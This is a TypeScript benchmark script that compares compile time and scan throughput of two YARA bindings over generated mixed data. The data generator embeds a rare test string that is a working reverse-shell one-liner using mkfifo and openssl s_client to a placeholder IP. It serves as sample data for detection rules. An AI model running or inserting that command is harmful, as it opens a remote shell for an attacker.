/**
 * Compares the two YARA bindings on this machine with the starter rules
 * (rules/yara): compile time, scan throughput over mixed generated data in
 * 1 MiB chunks, and many small (5 KiB) buffers.
 *
 *   npx tsc -p . && node dist/bench/yara-compare.js [--mib 50] [--small 2000]
 *
 * libyara-wasm (devDependency, comparison only) compiles the rules on every
 * `run(data, rules)` call; that is its API, so its per-scan cost includes it.
 */
import { readFile, readdir } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';
import { compile } from '@litko/yara-x';
import type { RuleMatch } from '@litko/yara-x';

interface WasmVector<T> {
  size(): number;
  get(i: number): T;
}
interface WasmModule {
  run(data: string, rules: string): { compileErrors: WasmVector<unknown>; matchedRules: WasmVector<{ ruleName: string }> };
}

const CHUNK = 1024 * 1024;
const SMALL = 5 * 1024;

/** Deterministic mixed content: random bytes, mail-like text, base64 runs, and a rare stager line. */
function generate(bytes: number, seed: number): Buffer {
  let x = seed >>> 0;
  const next = (): number => {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    return x >>> 0;
  };
  const words = ['the', 'mail', 'report', 'attached', 'invoice', 'please', 'tar', 'shell', 'server', 'linux', 'echo', 'base64', 'connect'];
  const out = Buffer.alloc(bytes);
  let at = 0;
  while (at < bytes) {
    const kind = next() % 10;
    let piece: Buffer;
    if (kind < 3) {
      piece = Buffer.alloc(512 + (next() % 4096));
      for (let i = 0; i < piece.length; i++) piece[i] = next() & 0xff;
    } else if (kind < 8) {
      piece = Buffer.from(Array.from({ length: 60 + (next() % 200) }, () => words[next() % words.length]).join(' ') + '\r\n');
    } else if (kind < 9) {
      const raw = Buffer.alloc(300 + (next() % 2000));
      for (let i = 0; i < raw.length; i++) raw[i] = next() & 0xff;
      piece = Buffer.from(raw.toString('base64').replace(/.{76}/gu, '$&\r\n'));
    } else {
      piece = Buffer.from(next() % 50 === 0 ? 'mkfifo /tmp/p;sh -i </tmp/p 2>&1|openssl s_client -quiet -connect 192.0.2.1:443\n' : 'nothing to see\n');
    }
    at += piece.copy(out, at);
  }
  return out;
}

function time<T>(run: () => T): { ms: number; value: T } {
  const started = process.hrtime.bigint();
  const value = run();
  return { ms: Number(process.hrtime.bigint() - started) / 1e6, value };
}

async function main(): Promise<void> {
  const { values } = parseArgs({ options: { mib: { type: 'string', default: '50' }, small: { type: 'string', default: '2000' } } });
  const mib = Number(values.mib);
  const smallCount = Number(values.small);
  const dir = fileURLToPath(new URL('../../rules/yara/', import.meta.url));
  const files = (await readdir(dir)).filter((f) => /\.ya?ra?$/u.test(f)).sort();
  const rules = (await Promise.all(files.map((f) => readFile(join(dir, f), 'utf8')))).join('\n');
  const big = generate(mib * CHUNK, 42);
  const chunks = Array.from({ length: mib }, (_, i) => big.subarray(i * CHUNK, (i + 1) * CHUNK));
  const smalls = Array.from({ length: smallCount }, (_, i) => generate(SMALL, 1000 + i));
  const smallMib = (smallCount * SMALL) / CHUNK;
  const report: Record<string, Record<string, string>> = {};

  // YARA-X (napi): compile once, scan many.
  const compiled = time(() => compile(rules, { errorOnSlowPattern: true }));
  const scanner = compiled.value;
  const count = (list: RuleMatch[]): number => list.length;
  const xBig = time(() => chunks.reduce((n, c) => n + count(scanner.scan(c)), 0));
  const xSmall = time(() => smalls.reduce((n, c) => n + count(scanner.scan(c)), 0));
  report['@litko/yara-x 0.3.0'] = {
    compileMs: compiled.ms.toFixed(1),
    [`${mib}MiB MB/s`]: (mib / (xBig.ms / 1000)).toFixed(1),
    [`${smallCount}x5KiB MB/s`]: (smallMib / (xSmall.ms / 1000)).toFixed(1),
    [`${smallCount}x5KiB us/scan`]: ((xSmall.ms * 1000) / smallCount).toFixed(1),
    matches: `${xBig.value}/${xSmall.value}`,
  };

  // libyara-wasm (libyara 4 in WebAssembly): every run() compiles the rules again.
  const require = createRequire(import.meta.url);
  // Untyped CommonJS factory; WasmModule is the subset of its Embind API used here.
  const factory = require('libyara-wasm') as () => Promise<WasmModule>;
  const wasm = await factory();
  const wCompile = time(() => wasm.run('', rules));
  const latin1 = (b: Buffer): string => b.toString('latin1');
  const wBig = time(() => chunks.reduce((n, c) => n + wasm.run(latin1(c), rules).matchedRules.size(), 0));
  const wSmall = time(() => smalls.reduce((n, c) => n + wasm.run(latin1(c), rules).matchedRules.size(), 0));
  report['libyara-wasm 1.2.1'] = {
    compileMs: `${wCompile.ms.toFixed(1)} (errors ${wCompile.value.compileErrors.size()})`,
    [`${mib}MiB MB/s`]: (mib / (wBig.ms / 1000)).toFixed(1),
    [`${smallCount}x5KiB MB/s`]: (smallMib / (wSmall.ms / 1000)).toFixed(1),
    [`${smallCount}x5KiB us/scan`]: ((wSmall.ms * 1000) / smallCount).toFixed(1),
    matches: `${wBig.value}/${wSmall.value}`,
  };
  console.table(report);
}

await main();
